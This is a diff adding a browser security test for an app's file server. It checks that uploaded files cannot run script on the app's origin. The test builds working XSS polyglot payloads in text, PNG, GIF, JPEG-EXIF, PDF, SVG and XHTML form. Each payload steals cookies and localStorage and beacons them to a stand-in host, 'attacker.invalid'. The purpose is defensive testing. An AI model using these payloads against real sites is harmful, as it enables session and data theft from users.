@@ -1,0 +1,440 @@
+// A served file cannot script the app's origin (RELIABILITY.md FILE-02),
+// in Debian Chromium against a real `tandemd --demo`. Tandem serves
+// uploads from the API's own origin (GET /files/{id}), the origin of the
+// agent web app, its session cookie and CSRF token and the widget's
+// visitor token; what stands in for a separate origin is the credential
+// (a cookie alone is refused: the CSRF token must ride in a header, which
+// only the app's own fetch sends) and the headers every download carries:
+// `Content-Disposition: attachment`, `X-Content-Type-Options: nosniff`,
+// `Content-Security-Policy: sandbox` and the type sniffed at upload.
+//
+// An agent and a widget visitor upload, through the real API, files a
+// browser would run if it rendered or sniffed them: text that is both
+// HTML and JavaScript, the same named .html, a PNG with a page after its
+// image, a GIF that is also JavaScript, a JPEG with a script in its EXIF,
+// a PDF with an OpenAction script and a page in a comment. HTML, SVG and
+// XHTML pages, under any name, and a page with a PDF header inside must
+// be refused. Each accepted file's
+// script, if it ever ran, would report where it ran and what it read
+// (window.__filexss), set a global in its parent, write the origin's
+// localStorage and beacon to a routed attacker host.
+//
+// The signed-in owner's browser then loads each file every way a link or
+// a hostile page could: first with the cookie alone (refused, nothing of
+// the file served), then with the CSRF token added to every request, so
+// that only the headers stand between the file and the origin: in frames,
+// objects, embeds, images and scripts of the app (under its CSP, which
+// blocks objects and embeds: recorded) and of a page at the same origin without any
+// CSP (what a page that forgot its CSP would be), and by following a link
+// in the app's tab and in a new tab. Nothing may run, no frame of the
+// origin may hold a document made from a file, a link must download under
+// the served name and leave the app in place, and every answer the
+// browser saw must carry the headers above.
+
+import assert from "node:assert/strict";
+import { after, before, describe, test } from "node:test";
+import { Agent, buildTandemd, launchBrowser, newPage, startTandemd, TIMEOUT } from "../../../../backend/webwidget/test/browser/harness.mjs";
+
+const ATTACKER = "attacker.invalid";
+const CANARY = `canary-${Date.now()}`;
+// A page at the app's origin with no CSP of its own (the route serves it).
+const PROBE = "/file02-probe";
+
+/**
+ * js is what a file's script does if a browser runs it: it reports where
+ * it ran with the origin's cookies and storage, writes both the parent's
+ * globals and the storage, and beacons it all out. No "*" + "/" and no
+ * "</script>" in it: it sits inside comments and script elements.
+ */
+const js = (id) =>
+  `var d={id:"${id}",at:location.href,cookie:document.cookie,storage:"-"};` +
+  `try{d.storage=JSON.stringify(localStorage);localStorage.setItem("pwned","${id}")}catch(e){d.storage=String(e)}` +
+  `try{parent.__pwned=(parent.__pwned||[]).concat(d.id)}catch(e){}` +
+  `try{__filexss(JSON.stringify(d))}catch(e){}` +
+  `new Image().src="https://${ATTACKER}/beacon?"+encodeURIComponent(JSON.stringify(d))`;
+const script = (id) => `<script>${js(id)}</script>`;
+
+/** text is plain text to the sniffer, a page to an HTML parser and a program to a JavaScript one. */
+const text = (id) => Buffer.from(`// meeting notes\n//${script(`${id}-html`)}\n${js(`${id}-js`)}\n`);
+
+/** exif puts an APP1 (EXIF) segment holding s right after a JPEG's start marker. */
+function exif(jpeg, s) {
+  const payload = Buffer.concat([Buffer.from("Exif\0\0II*\0\x08\0\0\0", "latin1"), Buffer.from(s)]);
+  const head = Buffer.from([0xff, 0xe1, (payload.length + 2) >> 8, (payload.length + 2) & 0xff]);
+  return Buffer.concat([jpeg.subarray(0, 2), head, payload, jpeg.subarray(2)]);
+}
+
+/**
+ * corpus lists the uploads, by a visitor or an agent: each accepted one
+ * with the type and name it must be served under, each refused one with
+ * what the refusal must say. png and jpeg are real images.
+ */
+function corpus(png, jpeg) {
+  const page = (id) => `<!DOCTYPE html><html><body>${script(id)}</body></html>`;
+  const svg = (id) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${js(`${id}-onload`).replaceAll('"', "&quot;")}">${script(id)}</svg>`;
+  const pdf = (id) =>
+    `%PDF-1.7\n%${page(`${id}-html`)}\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n` +
+    `3 0 obj<</S/JavaScript/JS(app.alert\\(document.domain\\))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`;
+  const gif = (id) =>
+    Buffer.concat([
+      Buffer.from("GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=(function(){", "latin1"),
+      Buffer.from(`${js(`${id}-js`)}})();//${script(`${id}-html`)}`),
+      Buffer.from("\x00\x00\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x00\x3b", "latin1"),
+    ]);
+  const plain = "text/plain; charset=utf-8";
+  return [
+    { id: "text", who: "agent", name: "notes.txt", body: text("text"), type: plain, served: "notes.txt" },
+    { id: "htmlname", who: "agent", name: "invoice.html", body: text("htmlname"), type: plain, served: "invoice.txt" },
+    { id: "png", who: "agent", name: "cat.html", body: Buffer.concat([png, Buffer.from(page("png"))]), type: "image/png", served: "cat.png" },
+    { id: "gif", who: "agent", name: "pixel.js", body: gif("gif"), type: "image/gif", served: "pixel.gif" },
+    { id: "jpeg", who: "agent", name: "photo.jpg", body: exif(jpeg, page("jpeg")), type: "image/jpeg", served: "photo.jpg" },
+    { id: "pdf", who: "agent", name: "invoice.pdf", body: Buffer.from(pdf("pdf")), type: "application/pdf", served: "invoice.pdf" },
+    { id: "vtext", who: "visitor", name: "order.htm", body: text("vtext"), type: plain, served: "order.txt" },
+    { id: "vpng", who: "visitor", name: "screenshot.png", body: Buffer.concat([png, Buffer.from(page("vpng"))]), type: "image/png", served: "screenshot.png" },
+    { id: "vpdf", who: "visitor", name: "receipt.pdf", body: Buffer.from(pdf("vpdf")), type: "application/pdf", served: "receipt.pdf" },
+    // Refused: pages and SVG under any name, and a page with a PDF header inside.
+    { id: "page", who: "agent", name: "page.html", body: Buffer.from(page("page")), refused: "text/html" },
+    { id: "svg", who: "agent", name: "logo.svg", body: Buffer.from(svg("svg")), refused: "image/svg+xml" },
+    { id: "xhtml", who: "agent", name: "page.xhtml", body: Buffer.from(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script("xhtml")}</html>`), refused: "xml" },
+    { id: "htmlpdf", who: "agent", name: "invoice.pdf", body: Buffer.from(`${page("htmlpdf")}\n%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n`), refused: "content before its header" },
+    { id: "vpage", who: "visitor", name: "notes.txt", body: Buffer.from(page("vpage")), refused: "text/html" },
+    { id: "vsvg", who: "visitor", name: "logo.png", body: Buffer.from(svg("vsvg")), refused: "image/svg+xml" },
+  ];
+}
+
+let server;
+let browser;
+
+before(async () => {
+  server = await startTandemd(buildTandemd());
+  browser = await launchBrowser();
+});
+
+after(async () => {
+  await browser?.close();
+  await server?.stop();
+});
+
+/** widget calls the WidgetService as a visitor (token "" for StartSession). */
+async function widget(token, method, body) {
+  const res = await fetch(`${server.url}/tandem.v1.WidgetService/${method}`, {
+    method: "POST",
+    headers: { "Content-Type": "application/json", ...(token ? { Authorization: `Bearer ${token}` } : {}) },
+    body: JSON.stringify(body),
+  });
+  const json = await res.json();
+  if (!res.ok) throw new Error(`WidgetService/${method}: ${res.status} ${JSON.stringify(json)}`);
+  return json;
+}
+
+/** upload POSTs a file as the app and the widget do; it returns the status and the answer. */
+async function upload(token, conversationId, f) {
+  const q = new URLSearchParams({ conversation_id: conversationId, client_id: crypto.randomUUID(), name: f.name });
+  const res = await fetch(`${server.url}/files?${q}`, { method: "POST", headers: { Authorization: `Bearer ${token}`, "Content-Type": "application/octet-stream" }, body: f.body });
+  return { status: res.status, json: await res.json() };
+}
+
+/** images asks the browser for a real PNG and JPEG (a canvas's), to carry payloads and still show as images. */
+async function images() {
+  const { context, page } = await newPage(browser);
+  const urls = await page.evaluate(() => {
+    const c = document.createElement("canvas");
+    c.width = c.height = 8;
+    c.getContext("2d").fillRect(0, 0, 4, 4);
+    return [c.toDataURL("image/png"), c.toDataURL("image/jpeg")];
+  });
+  await context.close();
+  return urls.map((u) => Buffer.from(u.split(",")[1], "base64"));
+}
+
+/**
+ * watch collects, by URL, what the context's pages, popups too, emit as
+ * event; it returns a function that waits for the first one at a URL
+ * (each load here has a URL of its own). A page that is already somewhere
+ * when it is opened (a popup) is seen at once, with its main frame.
+ */
+function watch(context, event, urlOf) {
+  const seen = new Map();
+  const waiting = new Map();
+  const on = (v) => {
+    const url = urlOf(v);
+    if (seen.has(url)) return;
+    seen.set(url, v);
+    waiting.get(url)?.(v);
+  };
+  for (const p of context.pages()) p.on(event, on);
+  context.on("page", (p) => {
+    p.on(event, on);
+    if (event === "framenavigated") on(p.mainFrame());
+  });
+  return (url) => (seen.has(url) ? Promise.resolve(seen.get(url)) : new Promise((r) => waiting.set(url, r)));
+}
+
+/**
+ * embed runs in a page: it points a new element of the given kind at url
+ * and resolves with what the browser told the page: "load", "error", or
+ * "csp" when the page's CSP refused it. A download tells the page nothing
+ * (the caller sees it); "timeout" is a failure.
+ */
+function embed([kind, url, ms]) {
+  return new Promise((resolve) => {
+    const el = document.createElement(kind);
+    el.dataset.file02 = url;
+    const done = (how) => {
+      clearTimeout(timer);
+      document.removeEventListener("securitypolicyviolation", onCsp);
+      resolve(how);
+    };
+    const onCsp = (e) => e.blockedURI === url && done("csp");
+    const timer = setTimeout(() => done("timeout"), ms);
+    document.addEventListener("securitypolicyviolation", onCsp);
+    el.addEventListener("load", () => done("load"));
+    el.addEventListener("error", () => done("error"));
+    if (kind === "object") el.data = url;
+    else el.src = url;
+    // As a hostile page would, to coax a document out of the file.
+    if (kind === "object" || kind === "embed") el.type = "text/html";
+    document.body.append(el);
+  });
+}
+
+/**
+ * leaks lists what a page holds that only a file's script could have put
+ * there (and clears it, so that each is told once), and any frame of the
+ * page's origin whose document was made from a file (it could script the
+ * origin even if its script did not report).
+ */
+function leaks() {
+  const found = [];
+  if (window.__pwned) found.push(`the page's globals were written: ${window.__pwned}`);
+  delete window.__pwned;
+  try {
+    if (localStorage.getItem("pwned")) found.push(`the origin's storage was written: ${localStorage.getItem("pwned")}`);
+    localStorage.removeItem("pwned");
+  } catch {
+    // a sandboxed document (a file shown in a tab under its CSP) has no storage
+  }
+  for (let i = 0; i < window.frames.length; i++) {
+    try {
+      const href = window.frames[i].location.href;
+      if (href.includes("/files/")) found.push(`a frame of ${location.origin} holds the file ${href}: ${window.frames[i].document.documentElement.outerHTML.slice(0, 200)}`);
+    } catch {
+      // another origin (a sandboxed document is one): it cannot reach this page
+    }
+  }
+  return found;
+}
+
+/**
+ * armed opens a fresh browser context signed in to the web app as the
+ * owner, with a canary in the origin's storage, the files' marker, the
+ * attacker's host routed (and aborted), the page without a CSP, and
+ * recorders for the answers to /files/ and what the pages' CSP blocked.
+ */
+async function armed() {
+  const { context, page } = await newPage(browser);
+  const w = { context, page, hits: [], beacons: [], answers: [], blocked: [], outcomes: new Map() };
+  await context.exposeFunction("__filexss", (d) => w.hits.push(d));
+  await context.route((u) => u.hostname === ATTACKER, (route) => {
+    w.beacons.push(route.request().url());
+    return route.abort();
+  });
+  await context.route(`${server.url}${PROBE}`, (route) => route.fulfill({ contentType: "text/html", body: "<!doctype html><title>probe</title><p>a page of the app's origin without a CSP</p>" }));
+  context.on("response", (r) => {
+    if (new URL(r.url()).pathname.startsWith("/files/")) w.answers.push({ url: r.url(), status: r.status(), headers: r.headers() });
+  });
+  context.on("console", (m) => {
+    if (/Content Security Policy/.test(m.text()) && m.text().includes("/files/")) w.blocked.push(m.text());
+  });
+  // Each load has a URL of its own, so what became of it is found by URL: a download, or a frame showing it.
+  w.downloaded = watch(context, "download", (d) => d.url());
+  w.shown = watch(context, "framenavigated", (f) => f.url());
+  w.answered = watch(context, "response", (r) => r.url());
+  await page.goto(`${server.url}/app/`);
+  await page.locator("#email").fill("owner@demo.tandem");
+  await page.locator("#password").fill("tandem-demo");
+  await page.getByRole("button", { name: "Sign in" }).click();
+  await page.locator("main.panes").waitFor();
+  await page.evaluate((c) => localStorage.setItem("file02-canary", c), CANARY);
+  w.appUrl = page.url();
+  w.csrf = (await context.cookies()).find((c) => c.name === "tandem_csrf")?.value;
+  return w;
+}
+
+/** fileUrl is a file's download address, made unique per load by via. */
+const fileUrl = (f, via) => `${server.url}/files/${f.fileId}?via=${via}`;
+
+/** ran says where a file's script ran, as it reported it, and what of the origin's it could read. */
+function ran(report) {
+  const d = JSON.parse(report);
+  let keys = d.storage;
+  try {
+    keys = Object.keys(JSON.parse(d.storage)).join(", ");
+  } catch {
+    // the storage was out of its reach: the error says why
+  }
+  return `its script ${d.id} ran at ${d.at}, reading the cookies ${JSON.stringify(d.cookie.slice(0, 60))} and the storage (${keys})`;
+}
+
+/** reached lists every way a file reached the origin since it last looked: its script's reports and beacons, and what the pages hold. */
+async function reached(w, pages) {
+  const found = [...w.hits.splice(0).map(ran), ...w.beacons.splice(0).map((b) => `its script beaconed to ${ATTACKER} what it read (${b.length} bytes)`)];
+  for (const [where, p] of pages) found.push(...(await p.evaluate(leaks)).map((l) => `${where}: ${l}`));
+  return found;
+}
+
+/**
+ * loadIn points every kind of element at f, in the app and in the page
+ * without a CSP at once, and lists what went wrong: a script element
+ * that ran the file, or a load the browser never finished.
+ */
+async function loadIn(w, pages, f) {
+  const problems = [];
+  const kinds = ["iframe", "object", "embed", "img", "script"];
+  await Promise.all(
+    pages.flatMap(([where, p]) =>
+      kinds.map(async (kind) => {
+        const url = fileUrl(f, `${where}-${kind}`);
+        const how = await Promise.race([p.evaluate(embed, [kind, url, TIMEOUT]), w.downloaded(url).then(() => "download")]);
+        const key = `${where} ${kind}: ${how}`;
+        w.outcomes.set(key, (w.outcomes.get(key) ?? 0) + 1);
+        if (how === "timeout") problems.push(`the <${kind}> in the ${where} page neither loaded, failed, was refused nor downloaded`);
+        // A script the browser refuses fires "error"; one it ran fires "load". The app's CSP
+        // (script-src 'self') lets a <script> fetch /files/: nosniff alone keeps text/plain from running.
+        if (kind === "script" && how !== "error") problems.push(`a <script> in the ${where} page ran the file (${how})`);
+      }),
+    ),
+  );
+  return problems;
+}
+
+/**
+ * followLink clicks a link to f in the app, in its tab or a new one, and
+ * lists what went wrong: the file shown instead of downloaded, under
+ * another name, or the app's tab left. A file shown is checked for what it
+ * did before the app is opened again.
+ */
+async function followLink(w, f, target) {
+  const problems = [];
+  const url = fileUrl(f, `link${target}`);
+  await w.page.evaluate(([u, target]) => {
+    const a = Object.assign(document.createElement("a"), { href: u, target, rel: "noopener", textContent: "the file" });
+    document.body.append(a);
+    a.click();
+    a.remove();
+  }, [url, target]);
+  const got = await Promise.race([w.downloaded(url), w.shown(url).then(() => "shown")]);
+  if (got === "shown") {
+    problems.push(`a link (${target}) showed the file instead of downloading it`);
+    const tab = target === "_self" ? w.page : w.context.pages().find((p) => p.url() === url);
+    await tab.waitForLoadState("load");
+    problems.push(...(await reached(w, [["the file's tab", tab]])));
+    if (tab !== w.page) await tab.close();
+  } else if (got.suggestedFilename() !== f.served) {
+    problems.push(`a link (${target}) downloaded ${got.suggestedFilename()}, not ${f.served}`);
+  }
+  const key = `link ${target}: ${got === "shown" ? "shown" : "download"}`;
+  w.outcomes.set(key, (w.outcomes.get(key) ?? 0) + 1);
+  if (w.page.url() !== w.appUrl) {
+    problems.push(`a link (${target}) took the app's tab to ${w.page.url()}`);
+    await w.page.goto(w.appUrl);
+  }
+  await w.page.locator("main.panes").waitFor();
+  return problems;
+}
+
+/** guards lists what is missing from each answer carrying f that the browser saw. */
+function guards(w, f) {
+  const got = w.answers.filter((a) => a.url.includes(f.fileId) && a.status === 200);
+  if (got.length === 0) return ["the browser never received the file"];
+  const want = {
+    "content-type": f.type,
+    "content-disposition": `attachment; filename=${f.served}`,
+    "x-content-type-options": "nosniff",
+    "content-security-policy": "sandbox; default-src 'none'",
+    "cross-origin-resource-policy": "same-origin",
+  };
+  const problems = [];
+  for (const a of got) {
+    for (const [k, v] of Object.entries(want)) {
+      if (a.headers[k] !== v) problems.push(`${new URL(a.url).search}: ${k} is ${JSON.stringify(a.headers[k])}, want ${JSON.stringify(v)}`);
+    }
+  }
+  return problems;
+}
+
+describe("a served file cannot script the app's origin", () => {
+  test("uploads that would run in a browser are refused or served so that nothing of them runs, in frames, objects, images, scripts or by a link", async (t) => {
+    const [png, jpeg] = await images();
+    const files = corpus(png, jpeg);
+
+    // A visitor's conversation (files on in the widget), taken over by the owner.
+    const owner = await new Agent(server.url).login("owner@demo.tandem");
+    const workspaceId = (await owner.call("AuthService", "WhoAmI", {})).memberships[0].workspaceId;
+    await owner.call("WorkspaceService", "UpdateWorkspace", { workspaceId, widget: { allowFiles: true } });
+    const visitor = (await widget("", "StartSession", { publicKey: server.key })).token;
+    const convId = (await widget(visitor, "StartConversation", { clientId: crypto.randomUUID(), body: "I attach my order" })).conversation.id;
+    await owner.takeOver(convId);
+
+    // Uploads through the real API: what is accepted keeps its sniffed type, under a name of that type; the rest is refused plainly.
+    const sent = { agent: [], visitor: [] };
+    for (const f of files) {
+      const { status, json } = await upload(f.who === "agent" ? owner.token : visitor, convId, f);
+      if (f.refused !== undefined) {
+        assert.equal(status, 400, `${f.id}: ${f.name} is refused: ${JSON.stringify(json)}`);
+        assert.equal(json.code, "invalid_argument", `${f.id}: the refusal's code`);
+        assert.match(json.message, /^body: files of type .+ are not accepted: send a PDF, an image/, `${f.id}: the refusal says what is accepted`);
+        assert.ok(json.message.includes(f.refused), `${f.id}: the refusal names the type (${f.refused}): ${json.message}`);
+        continue;
+      }
+      assert.equal(status, 200, `${f.id}: ${f.name} is accepted: ${JSON.stringify(json)}`);
+      assert.equal(json.contentType, f.type, `${f.id}: typed by its content`);
+      assert.equal(json.name, f.served, `${f.id}: named for its type`);
+      f.fileId = json.id;
+      sent[f.who].push(json.id);
+    }
+    await owner.call("ConversationService", "SendMessage", { conversationId: convId, clientId: crypto.randomUUID(), body: "", fileIds: sent.agent });
+    await widget(visitor, "SendMessage", { conversationId: convId, clientId: crypto.randomUUID(), body: "", fileIds: sent.visitor });
+    const served = files.filter((f) => f.fileId);
+
+    const w = await armed();
+    assert.ok(w.csrf, "the app's CSRF cookie is set");
+
+    // 1. The cookie alone: the browser's own loads of a file are refused, and none of the file is served.
+    const first = served[0];
+    for (const kind of ["iframe", "img", "script"]) {
+      const url = fileUrl(first, `nocsrf-${kind}`);
+      await w.page.evaluate(embed, [kind, url, TIMEOUT]);
+      const a = await w.answered(url);
+      assert.equal(a.status(), 403, `<${kind}> in the app with the cookie alone is refused`);
+      // (A refused frame shows the server's JSON error, none of the file.)
+      await w.page.evaluate((u) => document.querySelector(`[data-file02="${u}"]`)?.remove(), url);
+    }
+    const tab = await w.context.newPage();
+    const res = await tab.goto(fileUrl(first, "nocsrf-tab"));
+    assert.equal(res.status(), 403, "following a link with the cookie alone is refused");
+    const refusal = await res.text();
+    assert.match(refusal, /CSRF token/, "the refusal says why");
+    assert.ok(!refusal.includes("meeting notes"), "none of the file is served");
+    await tab.close();
+    assert.deepEqual(await reached(w, [["app", w.page]]), [], "with the cookie alone, nothing of the file reached the origin");
+
+    // 2. The CSRF token on every request, as though the check were gone: only the headers keep each file inert.
+    await w.context.setExtraHTTPHeaders({ "Tandem-Csrf": w.csrf });
+    const probe = await w.context.newPage();
+    await probe.goto(`${server.url}${PROBE}`);
+    const pages = [["app", w.page], ["probe", probe]];
+    for (const f of served) {
+      const problems = await loadIn(w, pages, f);
+      problems.push(...(await reached(w, pages)));
+      for (const [, p] of pages) await p.evaluate(() => document.querySelectorAll("[data-file02]").forEach((e) => e.remove()));
+      for (const target of ["_self", "_blank"]) problems.push(...(await followLink(w, f, target)), ...(await reached(w, pages)));
+      problems.push(...guards(w, f));
+      assert.deepEqual(problems, [], `${f.id} (${f.name} from the ${f.who}, served as ${f.type}) reached the origin or came without its guards`);
+    }
+    assert.equal(await w.page.evaluate(() => localStorage.getItem("file02-canary")), CANARY, "the canary stayed in the origin's storage, where a file's script would have read it");
+    t.diagnostic(`what the browser did, times: ${[...w.outcomes].sort().map(([k, n]) => `${k} ×${n}`).join("; ")}`);
+    t.diagnostic(`the pages' CSP blocked ${w.blocked.length} loads of files (the app allows no object or embed): ${w.blocked[0] ?? ""}`);
+    await w.context.close();
+  });
+});
